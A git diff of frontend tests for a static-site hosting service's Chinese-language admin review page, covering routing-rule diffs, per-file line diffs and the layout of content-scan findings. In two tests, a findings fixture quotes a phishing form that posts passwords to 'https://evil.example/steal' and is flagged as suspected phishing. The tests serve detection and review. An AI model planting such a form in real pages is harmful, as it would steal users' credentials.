@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { makeDetail } from './admin-fixtures';
 import { type FakeHandler, fail, fakeApi, ok } from './fake-api';
 import { adminUser, signIn } from './fixtures';
-import { makeDeployment } from './project-fixtures';
+import { adminAbilities, makeDeployment } from './project-fixtures';
 import { renderApp } from './render';
 
 async function openDetail(routes: Record<string, FakeHandler> = {}, path = '/admin/reviews/7') {
@@ -85,6 +85,233 @@ describe('review detail page', () => {
     expect(within(live!).getByText('线上版本')).toBeInTheDocument();
     expect(within(live!).getByText('已完成')).toBeInTheDocument();
     expect(screen.getByText(/渲染失败时运行时检查不完整/)).toBeInTheDocument();
+  });
+
+  it('shows how the routing files changed between the live and the waiting version, in a tab of the diff', async () => {
+    const diff = {
+      from_version: 2,
+      to_version: 3,
+      added: [{ file: '_headers', size: 60 }],
+      removed: [],
+      changed: [{ file: '_redirects', old_size: 18, new_size: 40, text: true }],
+      unchanged_count: 4,
+      site_rules: {
+        live: { redirects: '/old /new.html 301', headers: null },
+        newest: {
+          redirects: '/old /new.html 301\n/api/* /data.json 200',
+          headers: '/*\n  Cross-Origin-Opener-Policy: same-origin',
+        },
+      },
+    };
+    const { user } = await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff })) });
+    await user.click(await screen.findByRole('tab', { name: '路由规则（有变化）' }));
+    const panel = screen.getByRole('tabpanel', { name: '路由规则（有变化）' });
+    const live = within(panel).getByRole('heading', { name: '线上 v2' }).parentElement!;
+    const waiting = within(panel).getByRole('heading', { name: '待审 v3' }).parentElement!;
+    // The live version has only _redirects; the waiting one adds a rewrite and a _headers file.
+    expect(
+      within(live)
+        .getAllByRole('tab')
+        .map((t) => t.textContent),
+    ).toEqual(['_redirects']);
+    expect(live.querySelector('pre')).toHaveTextContent('/old /new.html 301');
+    expect(
+      within(waiting)
+        .getAllByRole('tab')
+        .map((t) => t.textContent),
+    ).toEqual(['_redirects', '_headers']);
+    expect(waiting.querySelector('pre')).toHaveTextContent('/old /new.html 301 /api/* /data.json 200');
+    await user.click(within(waiting).getByRole('tab', { name: '_headers' }));
+    expect(within(waiting).getByText(/Cross-Origin-Opener-Policy: same-origin/)).toBeVisible();
+  });
+
+  it('names a version without routing files in the diff, and shows no routing tab when nothing changed', async () => {
+    const base = {
+      from_version: 1,
+      to_version: 2,
+      added: [],
+      removed: [{ file: '_redirects', size: 18 }],
+      changed: [],
+      unchanged_count: 2,
+      site_rules: { live: { redirects: '/old /new.html 301', headers: null }, newest: null },
+    };
+    const { user, unmount } = await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff: base })) });
+    await user.click(await screen.findByRole('tab', { name: '路由规则（有变化）' }));
+    expect(screen.getByText('待审 v2 没有 _redirects 或 _headers 文件')).toBeInTheDocument();
+    unmount();
+
+    const same = {
+      ...base,
+      removed: [],
+      site_rules: { live: base.site_rules.live, newest: base.site_rules.live },
+    };
+    await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff: same })) });
+    expect(await screen.findByRole('tab', { name: /修改（0）/ })).toBeInTheDocument();
+    expect(screen.queryByRole('tab', { name: /路由规则/ })).toBeNull();
+  });
+
+  it('shows a changed text file’s line diff when the reviewer opens it, and only then asks for it', async () => {
+    const diff = {
+      from_version: 1,
+      to_version: 2,
+      added: [],
+      removed: [],
+      changed: [
+        { file: 'index.html', old_size: 40, new_size: 44, text: true },
+        { file: 'js/vendor.min.js', old_size: 600_000, new_size: 600_100, text: true },
+        { file: 'logo.png', old_size: 900, new_size: 950, text: false },
+      ],
+      unchanged_count: 3,
+      site_rules: { live: null, newest: null },
+    };
+    const same = Array.from({ length: 10 }, (_, i) => `<p>${i + 1}</p>`);
+    const { user, api } = await openDetail({
+      'GET /admin/projects/7': ok(makeDetail({ diff })),
+      'GET /admin/projects/7/file-diff': (request) =>
+        request.params?.path === 'index.html'
+          ? ok({
+              path: 'index.html',
+              from_version: 1,
+              to_version: 2,
+              old_size: 40,
+              new_size: 44,
+              too_large: false,
+              old_text: ['<h1>一</h1>', ...same, '<footer>旧</footer>', ''].join('\n'),
+              new_text: [
+                '<h1>二</h1>',
+                ...same,
+                '<footer>旧</footer>',
+                '<script src="x.js"></script>',
+                '',
+              ].join('\n'),
+            })
+          : ok({
+              path: 'js/vendor.min.js',
+              from_version: 1,
+              to_version: 2,
+              old_size: 600_000,
+              new_size: 600_100,
+              too_large: true,
+              old_text: null,
+              new_text: null,
+            }),
+    });
+    const open = await screen.findByRole('button', { name: '查看 index.html 的逐行差异' });
+    expect(api.calls('GET /admin/projects/7/file-diff')).toHaveLength(0);
+    // A picture has no line diff.
+    const png = screen.getByText('logo.png').closest('tr')!;
+    expect(within(png).getByText('非文本')).toBeInTheDocument();
+    expect(within(png).queryByRole('button')).toBeNull();
+
+    await user.click(open);
+    const lines = await screen.findByRole('figure', { name: 'index.html 逐行差异' });
+    expect(api.calls('GET /admin/projects/7/file-diff')[0]?.params).toEqual({ path: 'index.html' });
+    const removed = [...lines.querySelectorAll('.line-diff__line--removed')].map((l) => l.textContent);
+    const added = [...lines.querySelectorAll('.line-diff__line--added')].map((l) => l.textContent);
+    // Old and new line numbers, the sign, the text.
+    expect(removed).toEqual(['1-<h1>一</h1>']);
+    expect(added).toEqual(['1+<h1>二</h1>', '13+<script src="x.js"></script>']);
+    // Two changes ten lines apart: two hunks with three lines of context each, the middle left out.
+    expect(lines.querySelectorAll('.line-diff__hunk')).toHaveLength(2);
+    expect(lines.textContent).not.toContain('<p>6</p>');
+    expect(screen.getByRole('button', { name: '收起 index.html 的逐行差异' })).toHaveAttribute(
+      'aria-expanded',
+      'true',
+    );
+
+    // Beyond the size bound: said so, no text.
+    await user.click(screen.getByRole('button', { name: '查看 js/vendor.min.js 的逐行差异' }));
+    expect(await screen.findByText('文件过大（超过 512 KB），不显示逐行差异')).toBeInTheDocument();
+
+    await user.click(screen.getByRole('button', { name: '收起 index.html 的逐行差异' }));
+    await waitFor(() => expect(screen.queryByRole('figure', { name: 'index.html 逐行差异' })).toBeNull());
+  });
+
+  it('says why when a line diff can’t be loaded', async () => {
+    const diff = {
+      from_version: 1,
+      to_version: 2,
+      added: [],
+      removed: [],
+      changed: [{ file: 'app.js', old_size: 4, new_size: 5, text: true }],
+      unchanged_count: 0,
+      site_rules: { live: null, newest: null },
+    };
+    const { user } = await openDetail({
+      'GET /admin/projects/7': ok(makeDetail({ diff })),
+      'GET /admin/projects/7/file-diff': fail(404, '该版本中没有这个文件'),
+    });
+    await user.click(await screen.findByRole('button', { name: '查看 app.js 的逐行差异' }));
+    expect(await screen.findByText('加载逐行差异失败')).toBeInTheDocument();
+    expect(screen.getByText('该版本中没有这个文件')).toBeInTheDocument();
+  });
+
+  it('lays the findings table out at fixed widths on a wide screen, the excerpt in full', async () => {
+    await openDetail();
+    const table = (await screen.findByText('密码表单')).closest('table')!;
+    expect(table.style.tableLayout).toBe('fixed');
+    const headers = [...table.querySelectorAll('thead th')].map((th) => th.textContent);
+    expect(headers).toEqual(['级别', '类型', '说明', '位置']);
+    const widths = [...table.querySelectorAll('colgroup col')].map((col) => (col as HTMLElement).style.width);
+    expect(widths).toEqual(['88px', '128px', '', '180px']);
+    // The excerpt is wrapped in the 说明 cell, not cut to an ellipsis.
+    const excerpt = table.querySelector('.finding-excerpt-inline')!;
+    expect(excerpt.textContent).toBe('<form method="post" action="https://evil.example/steal">');
+    expect(excerpt.closest('.ant-typography-ellipsis')).toBeNull();
+  });
+
+  it('stacks a finding’s type, message, location and excerpt in one cell on a phone', async () => {
+    const width = window.innerWidth;
+    window.innerWidth = 390;
+    try {
+      await openDetail();
+      const kind = await screen.findByText('密码表单');
+      const table = kind.closest('table')!;
+      await waitFor(() =>
+        expect([...table.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual(['级别', '说明']),
+      );
+      const cell = kind.closest('td')!;
+      expect(
+        within(cell).getByText('表单收集密码并提交到外部域名 evil.example：疑似钓鱼'),
+      ).toBeInTheDocument();
+      expect(within(cell).getByRole('button', { name: 'index.html:12' })).toBeInTheDocument();
+      expect(cell.querySelector('.finding-excerpt-inline')).toHaveTextContent('<form method="post"');
+    } finally {
+      window.innerWidth = width;
+    }
+  });
+
+  it('offers 去审核决定 while the decision card is out of view, which brings it and its first field up', async () => {
+    const { user } = await openDetail();
+    // jsdom has no IntersectionObserver: the card counts as out of view.
+    const bar = await screen.findByRole('region', { name: '审核决定入口' });
+    expect(within(bar).getByText('待审核')).toBeInTheDocument();
+    await user.click(within(bar).getByRole('button', { name: /去审核决定/ }));
+    const card = document.getElementById('review-decision')!;
+    expect(card).toHaveTextContent('审核决定');
+    expect(card.contains(document.activeElement)).toBe(true);
+    expect(screen.getByRole('combobox', { name: '审核结果' })).toHaveFocus();
+  });
+
+  it('hides the 去审核决定 bar while the decision card is on screen', async () => {
+    const observed: Element[] = [];
+    class OnScreen {
+      constructor(private readonly report: (entries: Array<{ isIntersecting: boolean }>) => void) {}
+      observe(element: Element) {
+        observed.push(element);
+        this.report([{ isIntersecting: true }]);
+      }
+      disconnect() {}
+    }
+    Object.assign(window, { IntersectionObserver: OnScreen });
+    try {
+      await openDetail();
+      expect(await screen.findByRole('heading', { name: '审核：个人主页' })).toBeInTheDocument();
+      await waitFor(() => expect(observed.map((e) => e.id)).toContain('review-decision'));
+      expect(screen.queryByRole('region', { name: '审核决定入口' })).toBeNull();
+    } finally {
+      Reflect.deleteProperty(window, 'IntersectionObserver');
+    }
   });
 
   it('shows the project, its content check, files and statistics', async () => {
@@ -294,7 +521,14 @@ describe('review detail page', () => {
     const { user } = await openDetail({
       'GET /admin/projects/7': ok({
         ...detail,
-        project: { ...detail.project, status: 'published', is_live: true, featured: true, live_version: 1 },
+        project: {
+          ...detail.project,
+          status: 'published',
+          is_live: true,
+          featured: true,
+          live_version: 1,
+          abilities: adminAbilities({ status: 'published', is_live: true }),
+        },
       }),
     });
     await screen.findByRole('button', { name: '提交审核' });
@@ -324,7 +558,12 @@ describe('review detail page', () => {
     const rolledBack = {
       ...live,
       live_version: 1,
-      deployments: live.deployments.map((d) => ({ ...d, is_live: d.version === 1 })),
+      // What the server then sends: v1 live, v3 (approved, no longer live) may be made live again.
+      deployments: live.deployments.map((d) => ({
+        ...d,
+        is_live: d.version === 1,
+        abilities: { rollback: d.status === 'approved' && d.version !== 1 },
+      })),
     };
     let current = live;
     const { api, user } = await openDetail({
@@ -399,7 +638,8 @@ describe('review detail page', () => {
           is_live: false,
           deployments: [
             makeDeployment({ id: 22, version: 2, status: 'rejected' }),
-            makeDeployment({ id: 21, version: 1, status: 'approved' }),
+            // The server sends no rollback for an approved version while the project is offline.
+            makeDeployment({ id: 21, version: 1, status: 'approved', abilities: { rollback: false } }),
           ],
         },
       }),
